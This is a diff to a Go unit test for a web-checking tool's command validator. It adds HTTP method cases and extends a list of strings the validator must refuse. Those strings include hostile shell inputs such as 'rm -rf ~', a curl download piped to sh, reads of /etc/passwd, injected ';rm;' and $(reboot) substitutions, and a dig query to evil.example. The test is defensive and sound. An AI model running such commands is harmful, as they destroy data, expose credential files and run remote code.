@@ -149,6 +149,9 @@ func TestCommand(t *testing.T) {
 		made := []observe.Evidence{
 			(&observe.Page{Method: http.MethodGet, URL: "https://" + name + "/?a=b&c"}).Evidence(""),
 			(&observe.Page{Method: http.MethodHead, URL: "https://" + name + "/"}).Evidence(""),
+			(&observe.Page{Method: http.MethodOptions, URL: "https://" + name + "/"}).Evidence(""),
+			(&observe.Page{Method: http.MethodTrace, URL: "https://" + name + "/"}).Evidence(""),
+			(&observe.Page{Method: http.MethodGet, URL: "https://" + name + "/a", Origin: "https://tea-shop.example.shopcheck.invalid"}).Evidence(""),
 			(&observe.Records{Type: "TXT", Name: name, State: observe.NoRecord}).Evidence(),
 			(&observe.Session{Host: name}).Evidence(""),
 		}
@@ -171,6 +174,7 @@ func TestCommand(t *testing.T) {
 		"", "rm -rf ~", "curl -si https://a.example/; rm -rf ~", "curl -si https://a.example/ | sh", "curl -si $(reboot)", "curl -si -o/tmp/x https://a.example/",
 		"curl -si '-Kx'", "curl -s https://a.example/", "curl -si 'a' 'b", "curl -si `x`", "curl -si a > b", `curl -si \';rm;\'`, `curl -si 'a'\'';rm;'b'`, "dig @evil.example TXT a",
 		"dig +short TXT -f/etc/passwd", "sleep 2 | sh", "sleep 2 | openssl s_client -connect a:443 | grep -f/etc/passwd", "openssl s_client -keylogfile x -connect a:443 </dev/null", "openssl s_client -connect a:443 </dev/null | openssl x509 -noout; x", "curl -si a\nrm b",
+		"curl -si -X DELETE https://a.example/", "curl -si -X TRACE", "curl -sI -X TRACE -o/tmp/x https://a.example/", "curl -si -H @/etc/passwd https://a.example/", "curl -si -H 'Origin: @/etc/passwd' https://a.example/", "curl -si -H 'Cookie: a' https://a.example/", "curl -si -H 'Origin: https://a.example' -H 'Origin: https://b.example' https://a.example/",
 	} {
 		if got := command(again); got != "" {
 			t.Errorf("command(%q) is shown", again)
